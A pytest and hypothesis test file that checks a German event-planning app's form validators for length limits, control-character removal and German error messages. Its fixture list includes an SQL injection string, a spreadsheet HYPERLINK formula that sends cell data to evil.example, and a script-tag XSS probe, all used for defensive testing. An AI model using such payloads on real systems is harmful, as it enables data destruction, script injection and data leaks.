"""Hostile input in the event and venue forms (issue 14, deliver 8; the contact forms and the
readers are in ``test_hostile_input.py``): whatever text comes, the validator returns values
within the columns' limits and without invisible characters, or refuses with a German
``ValidationError`` naming the field. Before, a 100,000-character series or venue name was
passed on, stored silently by SQLite and refused by PostgreSQL with a bug dialog."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from beratung.domain.errors import ValidationError
from beratung.domain.events import AgendaItem, Event, Registration, Venue
from beratung.domain.rules.text import without_invisible
from beratung.services.events.planning import agenda_values, validate_event
from beratung.services.events.registrations import registration_text
from beratung.services.events.snapshots import AgendaItemInput
from beratung.services.events.venues import venue_values
from beratung.services.limits import column_limit

FEW = settings(deadline=None, max_examples=40, derandomize=True, database=None)

NASTY = [
    "'); DROP TABLE event;--",
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "Mül\x07ler\u202e\u200b\x1b",
    "\x00\x01\x02",
    "<script>alert(1)</script>",
    "A" * 100_000,
    "ä" * 201,
    "\r\n\r\n",
]
text_value = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.builds(lambda c, n: c * n, st.sampled_from("aÄ\u202e "), st.integers(100, 25_000)),
)

ENGLISH = re.compile(r"\b(the|is|not|invalid|error|value|field|string|too|long)\b", re.I)

EVENT_TEXT = ("title", "series", "description", "notes")
VENUE_TEXT = ("name", "room", "street", "postcode", "town", "directions", "public_transport",
              "contact_name", "contact_phone", "accessibility_notes")


def _checked(validate: Callable[[dict[str, Any]], dict[str, Any]], model: type, field: str,
             value: str) -> None:
    try:
        out = validate({field: value})
    except ValidationError as exc:
        assert exc.field == field, (field, exc.field, exc.message)
        assert exc.message.strip() and not ENGLISH.search(exc.message), exc.message
        return
    for key, cleaned in out.items():
        if isinstance(cleaned, str):
            assert without_invisible(cleaned) == cleaned, repr(cleaned)
            limit = column_limit(model, key)
            assert limit is not None and len(cleaned) <= limit, (key, len(cleaned))


@FEW
@given(st.sampled_from(EVENT_TEXT), text_value)
def test_the_event_form_cleans_or_names_the_field(field: str, value: str) -> None:
    _checked(validate_event, Event, field, value)


@FEW
@given(st.sampled_from(VENUE_TEXT), text_value)
def test_the_venue_form_cleans_or_names_the_field(field: str, value: str) -> None:
    _checked(venue_values, Venue, field, value)


@pytest.mark.parametrize(("validate", "field", "limit", "label"), [
    (validate_event, "series", 200, "Die Reihe"),
    (validate_event, "description", 20_000, "Die Beschreibung"),
    (venue_values, "name", 200, "Der Name"),
    (venue_values, "contact_phone", 60, "Das Telefon der Ansprechperson"),
])
def test_a_value_over_the_limit_is_refused_naming_the_field(
    validate: Callable[[dict[str, Any]], dict[str, Any]], field: str, limit: int, label: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        validate({field: "x" * (limit + 1)})
    assert caught.value.field == field
    assert caught.value.message.startswith(f"{label} ist zu lang")
    assert validate({field: "x" * limit})[field] == "x" * limit


AGENDA_TEXT = ("title", "speaker", "notes")


@FEW
@given(st.sampled_from(AGENDA_TEXT), text_value)
def test_the_agenda_form_cleans_or_names_the_field(field: str, value: str) -> None:
    """Before, the title was only stripped (a BEL or U+202E went into the programme and the
    invitation PDF) and a speaker over 300 characters (the dialog allowed 500) reached the
    database."""
    data = AgendaItemInput(**{"title": "Begrüßung", field: value})
    try:
        title, speaker, notes = agenda_values(data)
    except ValidationError as exc:
        assert exc.field == f"agenda_{field}", (field, exc.field)
        assert exc.message.strip() and not ENGLISH.search(exc.message), exc.message
        return
    for key, cleaned in (("title", title), ("speaker", speaker), ("notes", notes)):
        if cleaned is not None:
            assert without_invisible(cleaned) == cleaned, repr(cleaned)
            limit = column_limit(AgendaItem, key)
            assert limit is not None and len(cleaned) <= limit, (key, len(cleaned))


def test_an_agenda_speaker_over_the_column_is_refused_and_control_characters_go() -> None:
    with pytest.raises(ValidationError) as caught:
        agenda_values(AgendaItemInput(title="Vortrag", speaker="x" * 301))
    assert caught.value.field == "agenda_speaker"
    assert agenda_values(AgendaItemInput(title="Be\x07grü\u202eßung"))[0] == "Begrüßung"


@FEW
@given(st.sampled_from(("companion_names", "notes")), text_value)
def test_the_registration_form_cleans_or_names_the_field(field: str, value: str) -> None:
    """Before, the names of companions and the notes were only stripped: a BEL or U+202E
    went onto the list of participants and any length was stored."""
    try:
        cleaned = registration_text(value, field)
    except ValidationError as exc:
        assert exc.field == field, (field, exc.field)
        assert exc.message.strip() and not ENGLISH.search(exc.message), exc.message
        return
    if cleaned is not None:
        assert without_invisible(cleaned) == cleaned, repr(cleaned[:60])
        limit = column_limit(Registration, field)
        assert limit is not None and len(cleaned) <= limit


def test_registration_texts_lose_control_characters_and_keep_the_limit() -> None:
    assert registration_text("Hans\x07 Mül\u202eler", "companion_names") == "Hans Müller"
    with pytest.raises(ValidationError) as caught:
        registration_text("x" * 20_001, "notes")
    assert caught.value.field == "notes"
    assert caught.value.message.startswith("Die Notiz zur Anmeldung ist zu lang")
